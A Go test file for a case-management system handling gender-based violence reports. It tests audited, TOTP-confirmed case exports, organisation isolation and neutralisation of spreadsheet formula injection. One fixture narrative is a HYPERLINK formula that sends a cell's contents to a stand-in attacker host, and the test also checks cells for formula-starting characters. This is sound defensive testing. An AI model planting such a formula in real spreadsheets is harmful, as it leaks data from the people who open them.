package console_test

import (
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/salama-ke/salama/internal/app/apptest"
	"github.com/salama-ke/salama/internal/audit"
	"github.com/salama-ke/salama/internal/casework"
	"github.com/salama-ke/salama/internal/directory"
	"github.com/salama-ke/salama/internal/referral"
	"github.com/salama-ke/salama/internal/reporting"
	"github.com/salama-ke/salama/internal/staff"
	"github.com/salama-ke/salama/internal/totp"
)

// exportForm is a complete export request.
func exportForm(csrf, password, code string, set ...string) url.Values {
	f := url.Values{"csrf": {csrf}, "layout": {"salama"}, "format": {"csv"}, "password": {password}, "code": {code},
		"field": {"case_ref", "kind", "status", "what_happened", "gbv_type", "referred_from", "narrative", "identifiers"}}
	for i := 0; i+1 < len(set); i += 2 {
		f.Set(set[i], set[i+1])
	}
	return f
}

func readCSV(t *testing.T, body string) [][]string {
	t.Helper()
	if !strings.HasPrefix(body, "\uFEFF") {
		t.Error("the CSV lacks its byte-order mark")
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, body)
	}
	return recs
}

// column returns a CSV's column by its header, keyed by the first column.
func column(recs [][]string, name string) map[string]string {
	i := slices.Index(recs[0], name)
	out := map[string]string{}
	for _, r := range recs[1:] {
		if i >= 0 {
			out[r[0]] = r[i]
		}
	}
	return out
}

// Issue 15, item 2: an organisation admin exports the organisation's cases
// after giving their password and a fresh code; the file holds their
// organisation's cases only, never a withdrawn one, with formula injection
// neutralised, and the export is audited with the file's digest.
func TestCaseExport(t *testing.T) {
	each(t, func(t *testing.T, s *site) {
		cw := s.App.Casework
		child := s.ChildOrg()
		s.AddEnrolledUser(child, "child-admin", staff.RoleOrgAdmin)
		// The organisation's cases, one with words and identifiers a
		// spreadsheet would run as formulas.
		evil := s.Submit(apptest.Report(func(in *reporting.Input) {
			in.Narrative = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
			in.AllowMatch = true
			in.Identifiers = []reporting.Identifier{{Type: "phone", Value: "0712 345 678"}, {Type: "handle", Platform: "telegram", Value: "@cmd"}}
		}))
		plain := s.Submit(apptest.Report(func(in *reporting.Input) { in.Narrative = "Plain-7781" }))
		tabbed := s.Submit(apptest.Report(func(in *reporting.Input) { in.Narrative = "\t-2+3" }))
		gone := s.Submit(apptest.Report(func(in *reporting.Input) { in.Narrative = "Withdrawn-4410" }))
		if err := s.App.Store.Withdraw(s.Ctx(), gone.Report.ID, s.Clock.Now()); err != nil {
			t.Fatal(err)
		}
		// Another organisation's case, and a referral from it to this
		// organisation: included once accepted, with what was shared.
		theirs := s.Submit(apptest.Report(func(in *reporting.Input) {
			in.About, in.AgeBand, in.County, in.Narrative = "child", "13-15", "nairobi", "Theirs-9902"
		}))
		if theirs.Report.OrgID != child.Org.ID {
			t.Fatalf("a child's report went to %s", theirs.Report.OrgID)
		}
		referred := s.Submit(apptest.Report(func(in *reporting.Input) {
			in.About, in.AgeBand, in.County, in.Narrative = "child", "16-17", "nairobi", "Shared-5150"
		}))
		cp := s.Principal("demo-child-caseworker")
		if err := cw.CreateReferral(s.Ctx(), cp, referred.Report.ID, casework.NewReferral{ServiceID: "demo-intake-counselling",
			Fields: []string{referral.FieldSituation, referral.FieldNarrative}, Mode: casework.ModePhone, AgreedType: string(directory.TypeCounselling)}); err != nil {
			t.Fatalf("referral: %v", err)
		}
		cp.Close()
		refs, _ := s.App.Store.Referrals(s.Ctx(), referred.Report.ID)
		copyOf, _ := s.App.Store.Report(s.Ctx(), refs[0].ReferredReportID)

		admin := s.login(t, "demo-admin")
		acc := s.Account("demo-admin")
		loginCode := totp.Code(acc.TOTP, s.Clock.Now())
		csrf := admin.csrf()
		expect(t, "export form", admin.get("/console/export"), http.StatusOK, "Export cases", "Confirm it is you", "GBVIMS")

		// The code that opened the session is spent; a wrong password
		// with a fresh code fails too; both are audited and counted.
		head := s.AuditHead()
		expect(t, "the login's code again", admin.post("/console/export", exportForm(csrf, acc.Password, loginCode)), http.StatusForbidden, "Wrong password or code")
		s.Clock.NextStep()
		expect(t, "wrong password", admin.post("/console/export", exportForm(csrf, "not the password", totp.Code(acc.TOTP, s.Clock.Now()))), http.StatusForbidden)
		if got := s.refused(head); len(got) != 2 || !strings.Contains(got[0], "export_replayed_code") || !strings.Contains(got[1], "wrong_password") {
			t.Errorf("refused exports audited as %q", got)
		}
		if es := s.AuditSince(head, string(audit.CasesExported)); len(es) != 0 {
			t.Fatalf("a refused export was recorded as done: %+v", es)
		}
		// A caseworker cannot export at all.
		worker := s.login(t, "demo-caseworker")
		wacc := s.Account("demo-caseworker")
		expect(t, "caseworker", worker.post("/console/export", exportForm(worker.csrf(), wacc.Password, totp.Code(wacc.TOTP, s.Clock.Now()))), http.StatusNotFound)

		// The referral is not accepted yet: not this organisation's case.
		s.Clock.NextStep()
		code := totp.Code(acc.TOTP, s.Clock.Now())
		r := admin.post("/console/export", exportForm(csrf, acc.Password, code))
		if r.StatusCode != 200 || r.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
			!strings.HasPrefix(r.Header.Get("Content-Disposition"), `attachment; filename="salama-cases-salama-`) || r.Header.Get("Cache-Control") != "no-store" {
			t.Fatalf("export: %d %q %q\n%s", r.StatusCode, r.Header.Get("Content-Type"), r.Header.Get("Content-Disposition"), r.body)
		}
		recs := readCSV(t, r.body)
		narr := column(recs, "narrative")
		if got := narr[evil.Report.CaseRef]; got != `'=HYPERLINK("http://evil.example/?"&A1,"click")` {
			t.Errorf("formula narrative exported as %q", got)
		}
		if got := narr[tabbed.Report.CaseRef]; got != "'\t-2+3" {
			t.Errorf("tab-led narrative exported as %q", got)
		}
		if got := column(recs, "identifiers")[evil.Report.CaseRef]; got != "'+254712345678; cmd" {
			t.Errorf("identifiers exported as %q", got)
		}
		if narr[plain.Report.CaseRef] != "Plain-7781" {
			t.Errorf("plain narrative %q", narr[plain.Report.CaseRef])
		}
		for _, c := range recs[1:] {
			for _, cell := range c {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(strings.TrimLeft(cell, " ")[0])) {
					t.Errorf("a cell a spreadsheet would run: %q", cell)
				}
			}
		}
		for _, absent := range []string{gone.Report.CaseRef, "Withdrawn-4410", theirs.Report.CaseRef, "Theirs-9902", copyOf.CaseRef, "Shared-5150"} {
			if strings.Contains(r.body, absent) {
				t.Errorf("the export holds %q", absent)
			}
		}
		if len(recs)-1 < 3 {
			t.Errorf("%d rows", len(recs)-1)
		}
		// The audit: every report whose sealed content went out, and the
		// export with the exact file's digest, in one go.
		sum := sha256.Sum256([]byte(r.body))
		done := s.AuditSince(head, string(audit.CasesExported))
		want := fmt.Sprintf("format=csv layout=salama count=%d sha256=%s fields=narrative,identifiers", len(recs)-1, hex.EncodeToString(sum[:]))
		if len(done) != 1 || done[0].Detail != want || done[0].Actor != audit.UserActor(s.User("demo-admin").ID) || done[0].OrgID != s.IntakeOrg().Org.ID {
			t.Errorf("export audit %+v, want detail %q", done, want)
		}
		reads := map[string]string{}
		for _, e := range s.AuditSince(head, string(audit.ReportRead)) {
			reads[e.ReportID] = e.Detail
		}
		if reads[evil.Report.ID] != "fields=identifiers,narrative reason=case_export" || reads[plain.Report.ID] != "fields=narrative reason=case_export" {
			t.Errorf("per-report audit %v", reads)
		}
		if _, ok := reads[theirs.Report.ID]; ok {
			t.Error("another organisation's report was opened")
		}

		// The same request again: the code is spent.
		expect(t, "the export's code again", admin.post("/console/export", exportForm(csrf, acc.Password, code)), http.StatusForbidden)

		// Accepted, the referral is this organisation's case: in the
		// export, with what the survivor agreed to share, and whom from.
		ip := s.Principal("demo-caseworker")
		if err := cw.ReferralAction(s.Ctx(), ip, refs[0].ID, casework.ActionAccept, ""); err != nil {
			t.Fatal(err)
		}
		ip.Close()
		s.Clock.NextStep()
		r = admin.post("/console/export", exportForm(csrf, acc.Password, totp.Code(acc.TOTP, s.Clock.Now()), "format", "json"))
		if r.StatusCode != 200 || r.Header.Get("Content-Type") != "application/json" {
			t.Fatalf("JSON export: %d %q", r.StatusCode, r.Header.Get("Content-Type"))
		}
		var rows []map[string]any
		if err := json.Unmarshal([]byte(r.body), &rows); err != nil {
			t.Fatalf("JSON export: %v\n%s", err, r.body)
		}
		var got map[string]any
		for _, row := range rows {
			if row["case_ref"] == copyOf.CaseRef {
				got = row
			}
			if row["case_ref"] == evil.Report.CaseRef && row["narrative"] != `=HYPERLINK("http://evil.example/?"&A1,"click")` {
				t.Errorf("JSON keeps values as they are; narrative %q", row["narrative"])
			}
		}
		if got == nil || got["kind"] != "referral" || got["narrative"] != "Shared-5150" || got["referred_from"] != child.Org.Name {
			t.Errorf("accepted referral in the export: %v", got)
		}
		if strings.Contains(r.body, "Theirs-9902") || strings.Contains(r.body, theirs.Report.CaseRef) {
			t.Error("the JSON export holds another organisation's case")
		}

		// The other organisation's admin sees its own cases, never this
		// one's.
		other := s.login(t, "child-admin")
		oacc := s.Account("child-admin")
		s.Clock.NextStep()
		r = other.post("/console/export", exportForm(other.csrf(), oacc.Password, totp.Code(oacc.TOTP, s.Clock.Now())))
		if r.StatusCode != 200 || !strings.Contains(r.body, "Theirs-9902") {
			t.Fatalf("the child organisation's export: %d\n%s", r.StatusCode, r.body)
		}
		for _, absent := range []string{evil.Report.CaseRef, plain.Report.CaseRef, copyOf.CaseRef, "Plain-7781"} {
			if strings.Contains(r.body, absent) {
				t.Errorf("the child organisation's export holds %q", absent)
			}
		}
		// In the GBVIMS layout, its referral to counselling is a referral
		// to psychosocial services.
		s.Clock.NextStep()
		r = other.post("/console/export", exportForm(other.csrf(), oacc.Password, totp.Code(oacc.TOTP, s.Clock.Now()), "layout", "gbvims"))
		recs = readCSV(t, r.body)
		if got := column(recs, "Referred to: Psychosocial services")[referred.Report.CaseRef]; r.StatusCode != 200 || got != "Referred" {
			t.Errorf("GBVIMS referral column: %d %q", r.StatusCode, got)
		}
		if got := column(recs, "Referred to: Psychosocial services")[theirs.Report.CaseRef]; got != "" {
			t.Errorf("a report without a referral: %q", got)
		}
	})
}

// The GBVIMS layout: the incident form's columns in its words, nothing
// sealed, a period to choose, and problems that keep the choices.
func TestCaseExportGBVIMS(t *testing.T) {
	s := sqliteSite(t)
	sub := s.Submit(apptest.Report(func(in *reporting.Input) {
		in.Narrative, in.County, in.AgeBand = "Sealed-3131", "mombasa", "18-24"
		in.CountStats = true // she agreed: the GBVIMS consent column says so
	}))
	p := s.Principal("demo-caseworker")
	if err := s.App.Casework.Classify(s.Ctx(), p, sub.Report.ID, "sexual_assault", []string{"online", "commercial_sexual_exploitation", "trafficking"}); err != nil {
		t.Fatal(err)
	}
	p.Close()
	admin := s.login(t, "demo-admin")
	acc := s.Account("demo-admin")
	csrf := admin.csrf()
	today := s.Clock.Now().In(time.FixedZone("EAT", 3*3600)).Format("2006-01-02")

	// Problems come back with the choices kept, and spend no code.
	r := admin.post("/console/export", exportForm(csrf, acc.Password, "000000", "layout", "salama", "field", "", "from", "2026-13-40"))
	expect(t, "bad date", r, http.StatusUnprocessableEntity, "year-month-day", `value="2026-13-40"`)
	r = admin.post("/console/export", url.Values{"csrf": {csrf}, "layout": {"salama"}, "format": {"csv"}})
	expect(t, "no field", r, http.StatusUnprocessableEntity, "Tick at least one field")
	r = admin.post("/console/export", exportForm(csrf, acc.Password, "000000", "from", "2026-03-02", "to", "2026-03-01"))
	expect(t, "period backwards", r, http.StatusUnprocessableEntity, "ends before it starts")

	s.Clock.NextStep()
	r = admin.post("/console/export", exportForm(csrf, acc.Password, totp.Code(acc.TOTP, s.Clock.Now()), "layout", "gbvims", "from", today, "to", today))
	if r.StatusCode != 200 {
		t.Fatalf("GBVIMS export: %d\n%s", r.StatusCode, r.body)
	}
	recs := readCSV(t, r.body)
	for col, want := range map[string]string{
		"Incident ID":                          sub.Report.CaseRef,
		"Date of interview":                    today,
		"Age at time of incident (age band)":   "18-24",
		"Incident location: area (county)":     "Mombasa",
		"Type of incident violence (GBV type)": "Sexual Assault",
		"Were money, goods, benefits and/or services exchanged in relation to the incident?": "Yes",
		"Type of abduction at time of the incident":                                          "Trafficked",
		"Who referred the client to you?":                                                    "Self referral / first point of contact",
		"Consent to share non-identifiable data for reporting":                               "Yes",
		"Salama: context": "Online; Commercial sexual exploitation; Trafficking",
	} {
		if got := column(recs, col)[sub.Report.CaseRef]; got != want {
			t.Errorf("%s: %q, want %q", col, got, want)
		}
	}
	if strings.Contains(r.body, "Sealed-3131") {
		t.Error("the GBVIMS layout carries a narrative")
	}
	// Only the day's cases are in an export of one day.
	for _, row := range recs[1:] {
		if row[2] != today {
			t.Errorf("a case of %s in an export of %s", row[2], today)
		}
	}
	// A period with nothing in it: a header and no rows.
	s.Clock.NextStep()
	r = admin.post("/console/export", exportForm(csrf, acc.Password, totp.Code(acc.TOTP, s.Clock.Now()), "layout", "gbvims", "from", "2001-01-01", "to", "2001-01-31"))
	if recs := readCSV(t, r.body); r.StatusCode != 200 || len(recs) != 1 {
		t.Errorf("empty period: %d, %d records", r.StatusCode, len(recs))
	}
}
